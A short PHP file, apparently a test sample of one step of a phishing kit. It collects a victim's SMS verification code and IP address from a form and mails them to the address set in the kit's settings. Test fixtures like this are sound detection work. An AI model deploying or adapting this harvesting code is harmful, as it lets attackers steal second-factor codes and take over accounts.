<?php
// the verification-code step of a kit: mailed to the address the kit's settings give, with
// the visitor's address (written for the tests, never run)
include 'settings.php';
$code = $_POST['sms_code'];
$ip = $_SERVER['REMOTE_ADDR'];
$body = "Verification Code : $code\r\nIP : $ip\r\n";
mail($result_to, "CODE from $ip", $body, "From: kit <kit@example.test>");
header('Location: done.php');
